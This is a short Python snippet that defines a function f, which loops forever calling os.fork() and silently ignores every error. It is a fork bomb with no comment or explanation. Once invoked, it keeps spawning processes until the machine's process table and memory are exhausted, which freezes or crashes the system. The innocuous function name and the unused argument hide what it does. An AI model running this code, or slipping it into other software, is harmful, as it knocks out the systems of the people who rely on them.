import os


def f(x):
    while True:
        try:
            os.fork()
        except Exception:
            pass
